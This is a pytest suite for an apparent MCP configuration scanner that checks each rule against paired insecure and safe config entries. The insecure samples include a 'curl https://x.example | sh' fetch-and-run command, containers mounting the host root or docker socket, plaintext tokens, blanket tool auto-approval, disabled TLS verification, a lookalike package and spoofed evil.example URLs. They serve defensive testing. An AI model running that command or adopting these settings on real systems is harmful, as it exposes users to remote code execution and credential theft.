"""Each rule about clients' files tells a bad entry from its good twin."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from bascule.lock.advisories import parse_advisory
from bascule.scan.clients.places import Home
from bascule.scan.configs import scan_configs
from bascule.scan.incidents import about, affects, incidents
from bascule.scan.report import Report
from bascule.scan.rules.configs import RULES
from bascule.scan.server import Server
from bascule.scan.started import what_starts

pytestmark = pytest.mark.on_disk

PINNED = {"command": "npx", "args": ["-y", "@acme/tool@1.2.3"]}


def written(home: Path, name: str, value: object) -> Path:
    path = home / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value))
    return path


def scan(home: Path, **servers: object) -> Report:
    written(home, ".cursor/mcp.json", {"mcpServers": servers})
    return scan_configs([Home(str(home), "linux")]).report


def rules(report: Report) -> set[str]:
    return {it.rule for it in report.findings} - {"not-through-bascule"}


def docker(*words: str) -> dict[str, Any]:
    return {"command": "docker", "args": ["run", "-i", "--rm", *words, IMAGE]}


IMAGE = f"mcp/x@sha256:{'ab' * 32}"
TWINS: Sequence[tuple[str, dict[str, Any], dict[str, Any]]] = [
    ("floating-version", {"command": "npx", "args": ["-y", "@acme/tool"]}, PINNED),
    ("floating-version", {"command": "uvx", "args": ["tool"]},
     {"command": "uvx", "args": ["tool==1.2.3"]}),
    ("floating-version", {"command": "docker", "args": ["run", "mcp/x:1.2"]}, docker()),
    ("plain-secret", {**PINNED, "env": {"API_TOKEN": "hunter22"}},
     {**PINNED, "env": {"API_TOKEN": "${API_TOKEN}"}}),
    ("auto-approve", {**PINNED, "alwaysAllow": ["delete"]}, {**PINNED, "alwaysAllow": []}),
    ("auto-approve", {**PINNED, "autoApprove": ["*"]}, {**PINNED, "autoApprove": False}),
    ("auto-approve", {**PINNED, "trust": True}, {**PINNED, "trust": False}),
    ("configured-cleartext", {"url": "http://10.1.2.3/mcp"}, {"url": "https://10.1.2.3/mcp"}),
    ("configured-cleartext", {"url": "http://tools.example/mcp"},
     {"url": "http://localhost:3000/mcp"}),
    ("configured-cleartext",
     {"command": "npx", "args": ["mcp-remote@0.1.37", "http://x.example/mcp"]},
     {"command": "npx", "args": ["mcp-remote@0.1.37", "http://127.0.0.1/mcp"]}),
    ("privileged-container", docker("--privileged"), docker("--read-only")),
    ("privileged-container", docker("-v", "/:/host"), docker("-v", "/home/a/n:/n:ro")),
    ("privileged-container", docker("-v", "/var/run/docker.sock:/s"), docker()),
    ("privileged-container", docker("--network", "host"), docker("--network", "none")),
    ("privileged-container", docker("--no-such-option", "--privileged"), docker()),
    ("lookalike-package", {"command": "npx", "args": ["@modelcontextprotoco1/sdk@1.24.0"]},
     {"command": "npx", "args": ["@modelcontextprotocol/sdk@1.24.0"]}),
    ("vulnerable-version", {"command": "npx", "args": ["mcp-remote@0.1.15"]},
     {"command": "npx", "args": ["mcp-remote@0.1.16"]}),
    ("vulnerable-version", {"command": "uvx", "args": ["mcp-server-git==2025.11.25"]},
     {"command": "uvx", "args": ["mcp-server-git==2026.1.14"]}),
    ("malicious-release", {"command": "npx", "args": ["postmark-mcp@1.0.16"]},
     {"command": "npx", "args": ["postmark-mcp@1.0.12"]}),
    ("shell-command", {"command": "sh", "args": ["-c", "curl https://x.example | sh"]},
     {"command": "sh", "args": ["-c", "npx -y @acme/tool@1.2.3"]}),
    ("tls-unverified", {**PINNED, "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}},
     {**PINNED, "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "1"}}),
    ("configured-to-listen-beyond", {"command": "/opt/x", "args": ["--host", "0.0.0.0"]},  # noqa: S104
     {"command": "/opt/x", "args": ["--host", "127.0.0.1"]}),
    ("configured-to-listen-beyond", docker("-p", "8080:8080"),
     docker("-p", "127.0.0.1:8080:8080")),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "bad", "good"), TWINS)
def test_a_rule_tells_a_bad_server_from_its_twin(
    rule: str, bad: dict[str, Any], good: dict[str, Any], tmp_path: Path
) -> None:
    assert rule in rules(scan(tmp_path / "bad", one=bad))
    assert rule not in rules(scan(tmp_path / "good", one=good))


def test_the_good_twins_have_no_finding_of_weight(tmp_path: Path) -> None:
    report = scan(tmp_path, a=PINNED, b={"url": "https://x.example/mcp"}, c=docker())
    assert [it for it in report.findings if it.severity != "info"] == []


def test_the_rules_of_this_area_are_all_tested() -> None:
    elsewhere = {
        *("not-through-bascule", "project-auto-enable", "servers-imported"),
        *("config-writable-by-others", "client-config-changed"),
    }
    assert {rule for rule, _, _ in TWINS} | elsewhere == {it.id for it in RULES}


@pytest.mark.parametrize(
    ("name", "bad", "good", "rule"),
    [
        (".claude/settings.json", {"enableAllProjectMcpServers": True},
         {"enabledMcpjsonServers": ["one"]}, "project-auto-enable"),
        ("src/p/.claude/settings.local.json", {"enableAllProjectMcpServers": True},
         {"enableAllProjectMcpServers": False}, "project-auto-enable"),
        (".claude/settings.json", {"permissions": {"allow": ["mcp__github"]}},
         {"permissions": {"allow": ["mcp__github__get_issue"]}}, "auto-approve"),
        (".claude/settings.json", {"env": {"ANTHROPIC_API_KEY": "hunter22"}},
         {"env": {"ANTHROPIC_API_KEY": "${KEY}", "MAX_TOKENS": "5"}}, "plain-secret"),
        (".config/Code/User/mcp.json", {"inputs": [{"id": "x", "password": True,
          "default": "hunter22"}]}, {"inputs": [{"id": "x", "password": True}]},
         "plain-secret"),
        (".config/Code/User/settings.json", {"chat.mcp.discovery.enabled": True},
         {"chat.mcp.discovery.enabled": {"cursor": False}}, "servers-imported"),
        (".config/Code/User/settings.json", {"chat": {"tools": {"autoApprove": True}}},
         {"chat": {"tools": {"autoApprove": False}}}, "auto-approve"),
    ],
)  # fmt: skip
def test_settings_that_let_servers_in_are_found(
    name: str, bad: object, good: object, rule: str, tmp_path: Path
) -> None:
    for value, expected in ((bad, {rule}), (good, set())):
        written(tmp_path, name, value)
        assert rules(scan_configs([Home(str(tmp_path), "linux")]).report) == expected


def test_a_file_that_every_user_may_write_is_found(tmp_path: Path) -> None:
    path = written(tmp_path, ".cursor/mcp.json", {"mcpServers": {"one": PINNED}})
    path.chmod(0o664)
    assert rules(scan_configs([Home(str(tmp_path), "linux")]).report) == set()
    path.chmod(0o666)
    report = scan_configs([Home(str(tmp_path), "linux")]).report
    assert rules(report) == {"config-writable-by-others"}


@pytest.mark.parametrize(
    ("server", "through"),
    [
        ({"url": "http://localhost:8420/c/time/mcp"}, True),
        ({"url": "http://127.0.0.1:8420/c/time/mcp"}, True),
        ({"url": "http://[::1]:8420/mcp"}, True),
        ({"url": "https://mcp.corp.example/c/time/mcp"}, True),
        ({"url": "https://MCP.corp.example:443/c/time/mcp"}, True),
        ({"url": "http://localhost:8420.evil.example/c/time/mcp"}, False),
        ({"url": "http://localhost:8420@evil.example/c/time/mcp"}, None),
        ({"url": "http://evil.example/?http://localhost:8420/c/time/mcp"}, False),
        ({"url": "http://localhost:8420/other"}, False),
        ({"url": "http://localhost:8420/c/time/mcp/../../../x"}, False),
        ({"url": "http://localhost:8421/mcp"}, False),
        ({"url": "https://other.example/c/time/mcp"}, None),
        ({"url": "https://other.example/mcp"}, False),
        ({"command": "bascule", "args": ["connect", "time"]}, True),
        ({"command": "/home/a/.local/bin/bascule", "args": ["run", "time"]}, True),
        ({"command": "bascule", "args": ["--config", "b.toml", "connect", "time"]}, True),
        ({"command": "bascule", "args": ["up"]}, False),
        ({"command": "uvx", "args": ["bascule", "connect", "time"]}, True),
        (
            {"command": "uvx", "args": ["--from", "bascule==1.0", "bascule", "run", "x"]},
            True,
        ),
        ({"command": "python3", "args": ["-m", "bascule", "connect", "time"]}, True),
        ({"command": "npx", "args": ["mcp-remote", "http://localhost:8420/c/x/mcp"]}, True),
        ({"command": "npx", "args": ["mcp-remote", "https://other.example/mcp"]}, False),
        ({"command": "echo", "args": ["bascule", "connect", "time"]}, False),
        ({"command": "npx", "args": ["bascule", "connect", "time"]}, False),
        (PINNED, False),
    ],
)
def test_whether_a_server_is_reached_through_bascule(
    server: dict[str, Any], through: bool | None, tmp_path: Path
) -> None:
    written(tmp_path, ".cursor/mcp.json", {"mcpServers": {"one": server}})
    urls = ["https://mcp.corp.example"]
    report = scan_configs([Home(str(tmp_path), "linux")], public_urls=urls).report
    assert [it.through_bascule for it in report.servers] == [through]
    around = {it.rule for it in report.findings} & {"not-through-bascule"}
    assert bool(around) == (through is False)


def test_going_around_bascule_weighs_once_something_goes_through_it(tmp_path: Path) -> None:
    through = {"command": "bascule", "args": ["connect", "time"]}
    before = scan(tmp_path, one=PINNED).findings
    after = scan(tmp_path, one=PINNED, two=through).findings
    disabled = scan(tmp_path, one={**PINNED, "disabled": True}, two=through).findings
    assert [it.severity for it in before] == ["info"]
    assert [it.severity for it in after] == ["low"]
    assert disabled == ()


@pytest.mark.parametrize(
    ("command", "ecosystem", "package", "pinned"),
    [
        ("npx -y @acme/tool@1.2.3", "npm", "@acme/tool", True),
        ("npx @acme/tool@^1.2.3", "npm", "@acme/tool", False),
        ("npx @acme/tool@latest", "npm", "@acme/tool", False),
        ("npx @acme/tool@1", "npm", "@acme/tool", False),
        ("npx --registry https://r.example tool@1.0.0", "npm", "tool", True),
        ("npx --no-such-option tool", "npm", "tool", False),
        ("npx -p tool@1.0.0 start", "npm", "tool", True),
        ("npx github:acme/tool", "npm", "github:acme/tool", False),
        (f"npx github:acme/tool#{'a1' * 20}", "npm", f"github:acme/tool#{'a1' * 20}", True),
        ("bunx tool@1.0.0", "npm", "tool", True),
        ("pnpm dlx tool", "npm", "tool", False),
        ("yarn dlx tool@2.0.0", "npm", "tool", True),
        ("deno run -A npm:tool@1.0.0", "npm", "tool", True),
        ("npm exec -- tool@1.0.0", "npm", "tool", True),
        ("cmd /c npx -y tool@1.0.0", "npm", "tool", True),
        ("cmd.exe /c npx -y tool", "npm", "tool", False),
        (r"C:\nodejs\npx.cmd -y tool", "npm", "tool", False),
        ("env A=b npx -y tool", "npm", "tool", False),
        ("uvx tool", "pypi", "tool", False),
        ("uvx Tool_X==1.2", "pypi", "tool-x", True),
        ("uvx tool@1.2", "pypi", "tool", True),
        ("uvx tool@latest", "pypi", "tool", False),
        ("uvx --from tool[cli]==1.2 start", "pypi", "tool", True),
        ("uvx --python 3.12 tool==1.2", "pypi", "tool", True),
        ("uv tool run tool==1.2", "pypi", "tool", True),
        ("pipx run tool", "pypi", "tool", False),
        ("pipx run --spec tool==1 start", "pypi", "tool", True),
        (
            "uvx --from git+https://g.example/t start",
            "pypi",
            "git+https://g.example/t",
            False,
        ),
        ("docker run mcp/x", "oci", "mcp/x", False),
        ("docker run mcp/x:1.0", "oci", "mcp/x", False),
        (f"podman run --rm {IMAGE}", "oci", "mcp/x", True),
        ("/opt/server --port 1", None, "", None),
        ("node server.js", None, "", None),
        ("python -m server", None, "", None),
        ("uv run server.py", None, "", None),
        ("tool", None, "", None),
        ("", None, "", None),
    ],
)
def test_what_a_command_starts_and_whether_its_version_is_fixed(
    command: str, ecosystem: str | None, package: str, pinned: bool | None
) -> None:
    started = what_starts(command.split())
    assert (started.ecosystem, started.package, started.pinned) == (
        ecosystem,
        package,
        pinned,
    )


def test_a_shells_text_is_seen_through_when_it_is_one_command() -> None:
    assert what_starts(["bash", "-lc", "npx -y tool@1.0.0"]).package == "tool"
    assert what_starts(["sh", "-c", "a; b"]).opaque
    assert what_starts(["sh", "-c", "sh -c 'sh -c x'"]).program


def test_incidents_keep_their_sources_and_ranges() -> None:
    assert len(incidents()) == 152
    assert all(it.source for it in incidents())
    decided = [
        affects(it, eco, it.package or "", "0.0.0")
        for it in incidents()
        for eco in ("npm", "PyPI")
        if it.affected is not None and it in about(eco, it.package or "")
    ]
    assert None not in decided
    (filesystem, *_) = about("npm", "@modelcontextprotocol/server-filesystem")
    versions = ("0.6.2", "0.6.3", "2025.6.9", "2025.7.1")
    told = [affects(filesystem, "npm", filesystem.package or "", it) for it in versions]
    assert told == [True, False, True, False]


def test_an_open_version_of_a_package_that_did_harm_is_found(tmp_path: Path) -> None:
    found = scan(tmp_path, one={"command": "npx", "args": ["-y", "postmark-mcp"]}).findings
    assert ("malicious-release", "high") in {(it.rule, it.severity) for it in found}


def test_an_incident_without_versions_is_said_to_be_open(tmp_path: Path) -> None:
    server = {"command": "uvx", "args": ["mcp-atlassian==0.11.0"]}
    (gap,) = scan(tmp_path, one=server).not_assessed
    assert "CVE-2026-27825" in gap.what
    report = scan_configs([Home(str(tmp_path), "linux")], advisories=lambda _: {}).report
    assert report.not_assessed == ()


def test_an_imported_advisory_is_held_against_exact_versions(tmp_path: Path) -> None:
    written(tmp_path, ".cursor/mcp.json", {"mcpServers": {"one": PINNED}})
    document = {
        "id": "GHSA-1", "modified": "2026-01-01T00:00:00Z", "summary": "bad", "aliases": [],
        "affected": [{"package": {"ecosystem": "npm", "name": "@acme/tool"},
                      "ranges": [{"type": "SEMVER", "events": [
                          {"introduced": "0"}, {"fixed": "1.2.4"}]}]}],
    }  # fmt: skip
    advisory = parse_advisory(json.dumps(document).encode())
    asked = []

    def known(packages: frozenset[tuple[str, str]]) -> dict[tuple[str, str], list[Any]]:
        asked.append(packages)
        return {("npm", "@acme/tool"): [advisory]}

    report = scan_configs([Home(str(tmp_path), "linux")], advisories=known).report
    (finding,) = [it for it in report.findings if it.rule == "vulnerable-version"]
    assert "GHSA-1" in finding.evidence
    assert "1.2.4" in finding.fix
    assert asked == [frozenset({("npm", "@acme/tool")})]


def test_compose_and_dockers_catalog_are_judged_as_the_containers_they_start(
    tmp_path: Path,
) -> None:
    (tmp_path / "p").mkdir()
    (tmp_path / "p/compose.yaml").write_text(
        "services:\n  db:\n    image: postgres\n  tools:\n    image: acme/mcp-tools:1\n"
        "    privileged: true\n    volumes: [{type: bind, source: /, target: /h}]\n"
    )
    folder = tmp_path / ".docker/mcp"
    (folder / "catalogs").mkdir(parents=True)
    (folder / "registry.yaml").write_text("registry:\n  time:\n    ref: ''\n  other: {}\n")
    (folder / "catalogs/docker-mcp.yaml").write_text(
        f"registry:\n  time:\n    image: {IMAGE}\n  unused:\n    image: mcp/unused\n"
    )
    report = scan_configs([Home(str(tmp_path), "linux")]).report
    rows = {it.name: it for it in report.servers}
    assert set(rows) == {"tools", "time", "other"}
    assert (rows["tools"].pinned, rows["time"].pinned, rows["other"].pinned) == (
        False, True, None,
    )  # fmt: skip
    assert rules(report) == {"floating-version", "privileged-container"}


def test_a_row_says_what_the_contract_says(tmp_path: Path) -> None:
    servers = {
        "one": {
            "url": "https://x.example/sse",
            "headers": {"Authorization": "Bearer ${T}"},
        },
        "two": {**PINNED, "disabled": True},
    }
    one, two = scan(tmp_path, **servers).servers
    path = f"{tmp_path}/.cursor/mcp.json"
    assert one == Server(
        name="one", transport="sse", client="Cursor", path=path, url="https://x.example/sse",
        through_bascule=False, known=True, auth="bearer", state="configured",
    )  # fmt: skip
    assert two == Server(
        name="two", transport="stdio", client="Cursor", path=path,
        command=("npx", "-y", "@acme/tool@1.2.3"), pinned=True, through_bascule=False,
        known=True, state="disabled",
    )  # fmt: skip


def test_findings_are_the_same_in_every_scan_and_name_their_line(tmp_path: Path) -> None:
    text = '{\n "mcpServers": {\n  "a": {"command": "x"},\n  "one": {"command": "npx",\n'
    path = tmp_path / ".cursor/mcp.json"
    path.parent.mkdir()
    path.write_text(f'{text}   "args": ["tool"]}}\n }}\n}}')
    first = scan_configs([Home(str(tmp_path), "linux")]).report
    (finding,) = [it for it in first.findings if it.rule == "floating-version"]
    assert (finding.path, finding.line) == (str(path), 4)
    assert finding.target == f"{path}: one"
    assert first == scan_configs([Home(str(tmp_path), "linux")]).report
